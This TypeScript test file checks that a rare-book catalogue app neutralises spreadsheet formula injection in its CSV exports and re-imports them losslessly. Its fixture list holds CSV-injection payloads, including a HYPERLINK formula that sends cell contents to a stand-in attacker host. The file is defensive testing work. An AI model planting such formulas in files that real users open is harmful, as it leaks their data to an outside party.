// Titles that a spreadsheet program would run as formulas come out of every CSV neutralised (a
// leading apostrophe), and the CSV importer reads them back unchanged: export → import is lossless.
import test from 'ava';
import { ADMIN, startTestApp, type TestApp } from '../helpers/test-app.js';
import { ApiClient } from '../helpers/api-client.js';
import { createInstitution, publishRecord } from '../helpers/fixtures.js';
import { validGujiInput } from '../helpers/record-input.js';

let app: TestApp;
let admin: ApiClient;
test.before(async () => {
  app = await startTestApp();
  admin = await new ApiClient(app.url).login(ADMIN.email, ADMIN.password);
});
test.after.always(async () => {
  await app?.close();
});

// What an attacker types, and legitimate titles that start with an apostrophe.
const TITLES = [
  '=HYPERLINK("http://evil.example/?"&A1,"點此")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  "'=1+2",
  "''-x",
  "'論語",
  '論語二十卷',
];

async function text(path: string) {
  const res = await fetch(`${app.url}${path}`, { headers: { authorization: `Bearer ${admin.token}` } });
  t200(res.status, path);
  return (await res.text()).replace(/^\uFEFF/, '');
}
function t200(status: number, path: string) {
  if (status !== 200) throw new Error(`${path} → ${status}`);
}

/** Every CSV cell (quoted or not) of a CSV text. */
const cells = (csv: string) =>
  csv
    .split(/\r\n/)
    .flatMap((line) => line.split(','))
    .map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"'));

const formulaLike = (cell: string) => /^[=+\-@\t\r]/.test(cell);

/** One record per title; `complete` gives records that can be submitted and published. */
async function seed(institutionId: string, complete = false) {
  const numbers: string[] = [];
  for (const [i, title] of TITLES.entries()) {
    const minimal = {
      type: 'guji',
      institutionId,
      callNumber: `F${i}`,
      title,
      edition: '清刻本',
      volumes: 1,
    };
    const res = await admin.post(
      '/api/records',
      complete
        ? validGujiInput({ institutionId, callNumber: `F${i}`, title, preciousListNumber: null })
        : minimal,
    );
    if (res.status !== 201) throw new Error(res.text);
    numbers.push(res.body.censusNumber);
  }
  return numbers;
}

test('the template CSV export neutralises formulas and re-imports unchanged, apostrophes and all', async (t) => {
  const inst = await createInstitution(admin, '350000');
  await seed(inst.id);
  const csv = await text(`/api/institutions/${inst.id}/export?format=csv`);
  t.false(cells(csv).some(formulaLike), 'no cell starts like a formula');
  t.true(csv.includes(`'=HYPERLINK`));
  t.true(csv.includes(`''=1+2`));
  t.false(csv.includes(`'''=1+2`));
  t.true(csv.includes(`'''-x`));
  t.true(csv.includes(`'論語,`) || csv.includes(`'論語"`) || cells(csv).includes(`'論語`));

  const form = new FormData();
  form.set('file', new Blob([csv]), 'export.csv');
  const res = await fetch(`${app.url}/api/institutions/${inst.id}/imports`, {
    method: 'POST',
    headers: { authorization: `Bearer ${admin.token}` },
    body: form,
  });
  t.is(res.status, 202);
  const id = ((await res.json()) as { id: string }).id;
  let job: any;
  for (let i = 0; i < 300; i++) {
    job = (await admin.get(`/api/imports/${id}`)).body;
    if (job.status !== 'queued' && job.status !== 'running') break;
    await new Promise((r) => setTimeout(r, 100));
  }
  t.is(job.status, 'done');
  t.is(job.unchanged, TITLES.length);
  t.is(job.created + job.updated + job.failed, 0);
  const titles = (await admin.get(`/api/records?institutionId=${inst.id}&pageSize=50`)).body.items.map(
    (r: { title: string }) => r.title,
  );
  t.deepEqual([...titles].sort(), [...TITLES].sort());
});

test('the census catalogue CSV, the triage CSV and errors.csv neutralise formulas too', async (t) => {
  const inst = await createInstitution(admin, '350000');
  const numbers = await seed(inst.id, true);
  for (const cn of numbers) await publishRecord(admin, cn);
  const catalogue = await text(`/api/institutions/${inst.id}/catalogue?format=csv`);
  t.true(catalogue.includes(`'=HYPERLINK`));
  t.false(cells(catalogue).some(formulaLike));

  const triage = await text(`/api/triage/export?institutionId=${inst.id}`);
  t.true(triage.includes(`'@SUM(A1:A9)`));
  t.false(cells(triage).some(formulaLike));

  const form = new FormData();
  form.set('file', new Blob(['索书号,题名卷数,版本,册数\nE1,=1+2,清刻本,零\n']), 'bad.csv');
  const res = await fetch(`${app.url}/api/institutions/${inst.id}/imports`, {
    method: 'POST',
    headers: { authorization: `Bearer ${admin.token}` },
    body: form,
  });
  const id = ((await res.json()) as { id: string }).id;
  for (let i = 0; i < 300; i++) {
    const s = (await admin.get(`/api/imports/${id}`)).body.status;
    if (s !== 'queued' && s !== 'running') break;
    await new Promise((r) => setTimeout(r, 100));
  }
  const errors = await text(`/api/imports/${id}/errors.csv`);
  t.true(errors.split('\r\n').length > 2);
  t.false(cells(errors).some(formulaLike));
});
